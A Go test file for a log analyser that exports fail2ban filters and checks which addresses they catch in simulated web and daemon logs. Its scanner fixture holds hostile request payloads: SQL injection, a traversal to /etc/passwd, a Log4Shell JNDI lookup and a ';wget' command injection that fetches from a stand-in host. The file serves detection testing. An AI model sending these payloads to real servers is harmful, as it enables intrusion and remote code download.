package rule

import (
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"gumshoe/analyze"
)

// caught asks the real fail2ban whom a filter catches in lines.
func caught(t *testing.T, export string, lines []string) map[string]int {
	t.Helper()
	if _, err := exec.LookPath("fail2ban-regex"); err != nil {
		t.Skip("needs fail2ban: apt-get install fail2ban")
	}
	_, rest, ok := strings.Cut(export, ".conf ----\n")
	text, jail, isJail := strings.Cut(rest, "\n# ---- ")
	if !ok || !isJail || !strings.Contains(jail, "enabled  = false") {
		t.Fatalf("no filter and jail in:\n%s", export)
	}
	dir := t.TempDir()
	conf, log := filepath.Join(dir, "gumshoe.conf"), filepath.Join(dir, "log")
	common, err := os.ReadFile("/etc/fail2ban/filter.d/common.conf")
	if err != nil {
		t.Skip(err)
	}
	for path, content := range map[string]string{conf: text, log: strings.Join(lines, "\n") + "\n", filepath.Join(dir, "common.conf"): string(common)} {
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	out, err := exec.Command("fail2ban-regex", "--log-level", "CRITICAL", "--raw", "--out", "ip", log, conf).CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s\n%s", err, out, export)
	}
	found := map[string]int{}
	for _, ip := range strings.Fields(string(out)) {
		found[ip]++
	}
	return found
}

// Each learned rule, however its daemon writes, catches its lines as a fail2ban
// filter and no others; the address that a stranger puts into his name is not taken.
func TestRuleAsFail2banFilter(t *testing.T) {
	for _, tt := range []struct {
		program, pattern string
		bad, good        []string
	}{
		{"vaultd", `^unseal attempt of .* from ` + AddrGroup + ` denied: bad key$`, []string{
			"Nov 20 10:00:01 web1 vaultd[7]: unseal attempt of anna from 203.0.113.9 denied: bad key",
			"2026-11-20T10:00:02.123456+01:00 web1 vaultd[7]: unseal attempt of x from 8.8.8.8 denied: bad key from 2001:db8::7 denied: bad key",
		}, []string{
			"Nov 20 10:00:01 web1 vaultd[7]: unseal attempt of anna from 203.0.113.10 accepted",
			"Nov 20 10:00:01 web1 otherd[7]: unseal attempt of anna from 203.0.113.11 denied: bad key",
		}},
		{"", `^\[warn\] 100% sure; <login> of "[^"]*" \(#[0-9]{1,4}\) refused, peer=` + AddrGroup + ` é%\(a\)s$`, []string{
			`2026-11-20 10:00:01,123 [warn] 100% sure; <login> of "a b" (#77) refused, peer=203.0.113.9 é%(a)s`,
			`[2026-11-20 10:00:02] [warn] 100% sure; <login> of "" (#1) refused, peer=2001:db8::7 é%(a)s`,
		}, []string{
			`2026-11-20 10:00:01,123 [warn] 100% sure; <login> of "a b" (#77777) refused, peer=203.0.113.10 é%(a)s`,
			`2026-11-20 10:00:01,123 login of "a b" accepted, peer=203.0.113.11`,
		}},
	} {
		evidence := Samples(tt.program, tt.bad[:1])
		if _, err := Check(tt.pattern, evidence, nil); err != nil {
			t.Fatalf("%s: %v", tt.pattern, err)
		}
		text, err := Fail2ban(&analyze.Rule{ID: "r1", Program: tt.program, Pattern: tt.pattern, State: analyze.RuleActive})
		if err != nil {
			t.Fatal(err)
		}
		got := caught(t, text, append(tt.bad, tt.good...))
		if len(got) != 2 || got["203.0.113.9"] != 1 || got["2001:db8::7"] != 1 {
			t.Errorf("caught %v with\n%s", got, text)
		}
	}
}

// request is a line of an access log and what is known of it.
func request(addr, method, target string, status int, agent string) Sighting {
	line := fmt.Sprintf(`%s - - [20/Nov/2026:10:00:01 +0000] "%s %s HTTP/1.1" %d 153 "-" "%s"`, addr, method, target, status, agent)
	return Sighting{Line: line, Addr: netip.MustParseAddr(addr), Service: "http", Web: true, Method: method, Target: target, Status: status, Agent: agent}
}

const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"

// honestRequests are those of a site with nothing to hide.
func honestRequests() (out []Sighting) {
	for _, target := range []string{"/", "/about", "/search?q=l'or+blanc&page=2", "/favicon.ico", "/robots.txt", "/cart?item=select+a+union+jack", "/blog/2026/php-tips", "/env", "/api/v1/items?sort=name,price", "/img/a..b.png"} {
		out = append(out, request("198.51.100.7", "GET", target, 200, browser))
	}
	return append(out, request("198.51.100.8", "GET", "/favicon.ico", 404, browser), request("198.51.100.8", "GET", "/old-page", 404, browser))
}

func linesOf(all ...[]Sighting) (out []string) {
	for _, list := range all {
		for _, s := range list {
			out = append(out, s.Line)
		}
	}
	return out
}

func scannerCase() *Case {
	c := &Case{ID: "k3m9x", Headline: "A scan\nof [evil] things"}
	for _, target := range []string{"/.env", "/wp-login.php?a=1", "/admin;x/#%22(1)", "/caf%C3%A9.php", "/favicon.ico", "/"} {
		c.Lines = append(c.Lines, request("203.0.113.9", "GET", target, 404, browser))
	}
	for _, target := range []string{"/a?id=1%27%20or%20%271%27=%271", "/b?f=..%2f..%2fetc/passwd", "/c?x=${jndi:ldap://198.51.100.66/a}", "/d?q=1+UNION+ALL+SELECT+2", "/e?c=;wget+http://198.51.100.66/x"} {
		c.Lines = append(c.Lines, request("203.0.113.10", "GET", target, 200, browser))
	}
	return c
}

// A scanner's case as a filter catches its requests, but for those that everybody
// makes, and nobody else.
func TestWebCaseAsFail2banFilter(t *testing.T) {
	c := scannerCase()
	text, err := c.Filter()
	if err != nil {
		t.Fatal(err)
	}
	got := caught(t, text, linesOf(c.Lines, honestRequests()))
	if got["203.0.113.9"] != 4 || got["203.0.113.10"] != 5 || len(got) != 2 {
		t.Errorf("caught %v with\n%s", got, text)
	}
	if !strings.Contains(text, "(tells 9 of 11 of its events that are kept)") {
		t.Errorf("what it catches is not told:\n%s", text)
	}
}

// What only a tool's name tells from others is told by that, and a form at which
// passwords were guessed by the posts.
func TestAgentsAndForms(t *testing.T) {
	c := &Case{ID: "k1"}
	for range 5 {
		c.Lines = append(c.Lines, request("203.0.113.9", "GET", "/about", 200, "python-requests/2.31 (#%s;<x>)"))
	}
	text, err := c.Filter()
	if err != nil {
		t.Fatal(err)
	}
	if got := caught(t, text, linesOf(c.Lines, honestRequests())); len(got) != 1 || got["203.0.113.9"] != 5 {
		t.Errorf("caught %v with\n%s", got, text)
	}
	form := &Case{ID: "k2"}
	for range 6 {
		s := request("203.0.113.9", "POST", "/login", 200, browser)
		s.Failed = true
		form.Lines = append(form.Lines, s)
	}
	if text, err = form.Filter(); err != nil {
		t.Fatal(err)
	}
	visits := []Sighting{request("198.51.100.7", "GET", "/login", 200, browser)}
	if got := caught(t, text, linesOf(form.Lines, visits, honestRequests())); len(got) != 1 || got["203.0.113.9"] != 6 {
		t.Errorf("caught %v with\n%s", got, text)
	}
	if _, err := form.Nginx(); err == nil {
		t.Error("the login form itself is closed to everybody")
	}
}

// Guessing at a mail server and at sshd, by the messages of the evidence.
func TestDaemonCaseAsFail2banFilter(t *testing.T) {
	for _, tt := range []struct{ service, program, bad, good string }{
		{"sshd", "sshd", "Nov 20 10:00:0%d web1 sshd[10%d]: Failed password for invalid user oracle%d from 203.0.113.9 port 4000%d ssh2",
			"Nov 20 10:01:00 web1 sshd[103]: Accepted password for anna from 198.51.100.7 port 50000 ssh2\nNov 20 10:01:00 web1 sshd[103]: Failed password for anna from 198.51.100.7 port 50000 ssh2"},
		{"smtp", "postfix/smtpd", "Nov 20 10:00:0%d mx postfix/smtpd[%d]: warning: unknown[203.0.113.9]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username=u%d%d@example.org",
			"Nov 20 10:01:00 mx postfix/smtpd[3]: connect from mail.example.org[198.51.100.7]\nNov 20 10:01:00 mx postfix/smtpd[3]: disconnect from mail.example.org[198.51.100.7] ehlo=1 quit=1 commands=2"},
		{"imap", "dovecot", "Nov 20 10:00:0%d mx dovecot: imap-login: Disconnected (auth failed, %d attempts in 2 secs): user=<u%d%d@example.org>, method=PLAIN, rip=203.0.113.9, lip=10.0.0.1, TLS",
			"Nov 20 10:01:00 mx dovecot: imap-login: Login: user=<anna@example.org>, method=PLAIN, rip=198.51.100.7, lip=10.0.0.1, mpid=71, TLS, session=<a>"},
	} {
		c := &Case{ID: "k3"}
		for i := range 5 {
			c.Lines = append(c.Lines, Sighting{Line: fmt.Sprintf(tt.bad, i, i, i, i), Program: tt.program, Service: tt.service, Addr: netip.MustParseAddr("203.0.113.9")})
		}
		text, err := c.Filter()
		if err != nil {
			t.Errorf("%s: %v", tt.service, err)
			continue
		}
		if got := caught(t, text, append(linesOf(c.Lines), strings.Split(tt.good, "\n")...)); len(got) != 1 || got["203.0.113.9"] != 5 {
			t.Errorf("%s: caught %v with\n%s", tt.service, got, text)
		}
	}
}

// A case without anything to look for says so.
func TestNothingToExport(t *testing.T) {
	c := &Case{ID: "k4", Lines: honestRequests()[:3]}
	for _, f := range []func() (string, error){c.Filter, c.Nginx, c.Apache, (&Case{}).Filter} {
		if text, err := f(); err == nil {
			t.Errorf("exported\n%s", text)
		}
	}
}
